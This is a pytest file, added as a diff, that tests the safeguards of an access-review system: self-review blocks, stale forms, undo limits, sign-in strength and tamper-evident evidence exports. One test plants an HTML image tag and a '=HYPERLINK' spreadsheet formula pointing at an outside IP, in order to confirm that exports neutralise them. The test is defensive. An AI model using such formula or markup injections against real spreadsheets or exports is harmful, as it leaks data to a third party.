@@ -1,0 +1,212 @@
+# ruff: noqa: F401, F811 -- fixtures are imported by name, and tests take them by the same name
+"""Reviews that somebody tries to bend: about themselves, on what has changed, with the end brought nearer, or later."""
+
+from __future__ import annotations
+
+import csv
+from dataclasses import replace
+from io import StringIO
+
+import pytest
+from tests.access.at_harbor import AtHarbor, Colleague, farid, harbor, oscar
+from tests.access.reviews.harbor_reviews import UnderReview, begun, set_groups
+
+from limen.access.errors import NotYoursError
+from limen.access.reviews import signature
+from limen.access.reviews.errors import EvidenceError, NotDoneError
+from limen.access.reviews.model import Effect, Outcome, Verdict
+from limen.access.reviews.verdicts import Told
+from limen.clock import DAY
+from limen.facts import Auth, Factor
+
+
+@pytest.fixture
+async def greta(harbor: AtHarbor) -> Colleague:
+    return await harbor.colleague("Greta", "staff", "sales")
+
+
+@pytest.fixture
+async def under(harbor: AtHarbor, farid: Colleague, greta: Colleague) -> UnderReview:
+    return await begun(harbor)
+
+
+def denied(harbor: AtHarbor) -> list[str]:
+    return [one.reason for one in harbor.events("review.denied")]
+
+
+async def test_nobody_decides_about_themselves(harbor: AtHarbor, under: UnderReview, farid: Colleague) -> None:
+    for verdict in (Verdict.KEEP, Verdict.REMOVE, Verdict.ASK):
+        assert await under.tells(farid, await under.row(farid.id), verdict) is Outcome.OWN
+    assert (await under.row(farid.id)).verdict is Verdict.OPEN
+    assert denied(harbor) == ["own"] * 3
+
+
+async def test_nobody_decides_about_their_second_account(harbor: AtHarbor, farid: Colleague, greta: Colleague) -> None:
+    people = harbor.house.limen.identity.people
+    mailbox = harbor.house.limen.known.people[farid.id].email.replace("@", "+second@")
+    await people.correct(greta.id, "Greta", mailbox, by="")
+    under = await begun(harbor)
+    row = await under.row(greta.id)
+    assert row.reviewers == ()
+    assert await under.tells(farid, row, Verdict.KEEP) is Outcome.OWN
+
+
+async def test_two_who_review_each_other_don_t_with_four_eyes(harbor: AtHarbor) -> None:
+    maren, rohan = [await harbor.colleague(name, "staff", "finance") for name in ("Maren", "Rohan")]
+    under = await begun(harbor, "restricted-apps")
+    of_payroll = {one.person_id: one for one in await under.rows() if one.app == "payroll"}
+    of_rohan, of_maren = of_payroll[rohan.id], of_payroll[maren.id]
+    assert await under.tells(maren, of_rohan, Verdict.KEEP) is Outcome.DONE
+    assert await under.tells(rohan, of_maren, Verdict.KEEP) is Outcome.OWN
+
+
+async def test_somebody_who_came_among_the_reviewers_since_decides_nothing(
+    harbor: AtHarbor, under: UnderReview, greta: Colleague, oscar: Colleague
+) -> None:
+    await set_groups(harbor, oscar, "staff", "sales")
+    assert await under.tells(oscar, await under.row(greta.id), Verdict.REMOVE) is Outcome.NOT_YOURS
+    assert greta.opens()
+    assert denied(harbor) == ["not-yours"]
+
+
+async def test_somebody_who_left_the_reviewers_since_decides_nothing(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    await set_groups(harbor, farid, "staff")
+    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.NOT_YOURS
+    assert greta.opens()
+
+
+async def test_a_form_that_is_sent_again_decides_nothing(
+    under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    row = await under.row(greta.id)
+    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.DONE
+    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.DECIDED
+    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.DONE
+    assert await under.tells(farid, row, Verdict.REMOVE) is Outcome.STALE
+    assert await under.undoes(farid, row) is Outcome.NOT_YOURS
+    assert greta.opens()
+
+
+async def test_a_grant_that_was_prolonged_by_more_actions_is_looked_at_anew(
+    harbor: AtHarbor, farid: Colleague, greta: Colleague, oscar: Colleague
+) -> None:
+    grant = await farid.approves(await oscar.asks("crm", "view", "edit"))
+    assert grant is not None
+    under = await begun(harbor)
+    row = await under.row(oscar.id)
+    narrow = Told(row.id, row.version, Verdict.NARROW, narrow_to=("view",))
+    other = await begun(harbor)
+    assert (await under.decides(farid, narrow))[Outcome.DONE] == 1
+    seen = await other.row(oscar.id)
+    assert seen.actions == ("view", "edit")
+    assert await other.tells(greta, seen, Verdict.KEEP) is Outcome.STALE
+    again = await other.row(oscar.id)
+    assert (again.actions, again.version, again.verdict) == (("view",), 2, Verdict.OPEN)
+    assert await other.tells(greta, again, Verdict.KEEP) is Outcome.DONE
+
+
+async def test_a_leaver_is_nothing_to_decide_about_and_comes_back_by_no_undo(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    people = harbor.house.limen.identity.people
+    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.DONE
+    await people.deactivate(greta.id, by="")
+    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.STALE
+    assert harbor.house.limen.known.people[greta.id].groups == {"staff"}
+    other = await begun(harbor)
+    assert [one for one in await other.rows() if one.person_id == greta.id] == []
+    await people.deactivate(farid.id, by="")
+    harbor.house.clock.forward(30 * DAY)
+    await under.reviews.follow_calendar()
+    assert {one.effect for one in await under.rows() if one.person_id == farid.id} == {Effect.GONE}
+
+
+async def test_undoing_gives_nothing_back_that_an_administrator_took_since(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.DONE
+    await set_groups(harbor, greta)
+    assert await under.undoes(farid, await under.row(greta.id)) is Outcome.STALE
+    assert "sales" not in harbor.house.limen.known.people[greta.id].groups
+
+
+async def test_only_who_decided_undoes_it(
+    harbor: AtHarbor, farid: Colleague, greta: Colleague, oscar: Colleague
+) -> None:
+    await farid.approves(await oscar.asks())
+    under = await begun(harbor)
+    assert await under.tells(farid, await under.row(oscar.id), Verdict.REMOVE) is Outcome.DONE
+    assert await under.undoes(greta, await under.row(oscar.id)) is Outcome.NOT_YOURS
+    assert not oscar.opens()
+
+
+async def test_nobody_closes_it_early_to_have_its_default_or_decides_when_it_is_over(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    ada = await harbor.administrator()
+    with pytest.raises(NotDoneError):
+        await under.reviews.close(ada.session, under.review.id)
+    harbor.house.clock.forward(21 * DAY)
+    assert await under.tells(farid, await under.row(greta.id), Verdict.REMOVE) is Outcome.CLOSED
+    assert "sales" in harbor.house.limen.known.people[greta.id].groups
+
+
+async def test_a_program_and_a_weak_sign_in_decide_nothing(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    row, now = await under.row(greta.id), harbor.house.clock.now()
+    told = [Told(row.id, row.version, Verdict.REMOVE)]
+    for auth in (Auth(2, frozenset({Factor.PASSWORD}), now), Auth(2, frozenset({Factor.PASSKEY}), now, by_token=True)):
+        session = replace(farid.session, auth=auth)
+        with pytest.raises(NotYoursError):
+            await under.reviews.decide(session, under.review.id, told)
+        with pytest.raises(NotYoursError):
+            await under.reviews.close(session, under.review.id)
+    assert greta.opens()
+
+
+@pytest.mark.parametrize("form", ["csv", "pdf"])
+async def test_evidence_in_which_any_byte_was_changed_is_none(
+    harbor: AtHarbor, under: UnderReview, farid: Colleague, greta: Colleague, form: str
+) -> None:
+    await under.tells(farid, await under.row(greta.id), Verdict.KEEP)
+    made = await under.reviews.evidence(under.review.id, form, "")
+    keys = signature.public_keys(harbor.house.limen.core.keyring)
+    assert made.content.startswith(signature.verified(made.content, keys))
+    step = max(1, len(made.content) // 400)
+    for place in (*range(0, len(made.content), step), *range(len(made.content) - 240, len(made.content))):
+        changed = bytearray(made.content)
+        changed[place] ^= 1
+        with pytest.raises(EvidenceError):
+            signature.verified(bytes(changed), keys)
+    for cut in (made.content[:-1], made.content + b"\n", made.content[1:], b""):
+        with pytest.raises(EvidenceError):
+            signature.verified(cut, keys)
+    with pytest.raises(EvidenceError):
+        signature.verified(made.content, [bytes(32)])
+
+
+async def test_no_cell_of_the_evidence_is_a_formula_or_markup(
+    harbor: AtHarbor, farid: Colleague, greta: Colleague
+) -> None:
+    await harbor.house.limen.identity.people.rename(greta.id, "<img src='http://203.0.113.9/'/>", by="")
+    under = await begun(harbor)
+    note = '=HYPERLINK("http://203.0.113.9/"&A1)'
+    assert await under.tells(farid, await under.row(greta.id), Verdict.KEEP, note) is Outcome.DONE
+    made = await under.reviews.evidence(under.review.id, "csv", "")
+    cells = [cell for row in csv.reader(StringIO(made.content.decode())) for cell in row]
+    assert f"'{note}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    pdf = await under.reviews.evidence(under.review.id, "pdf", "")
+    assert pdf.content.startswith(b"%PDF")
+    assert b"/URI" not in pdf.content
+    assert "HYPERLINK" not in str(harbor.events("review.decided"))
+
+
+async def test_more_rows_than_one_press_may_decide_are_left_alone(
+    under: UnderReview, farid: Colleague, greta: Colleague
+) -> None:
+    several = [Told(f"rr_{number}", 1, Verdict.REMOVE) for number in range(500)]
+    assert (await under.decides(farid, *several)).total() == 200
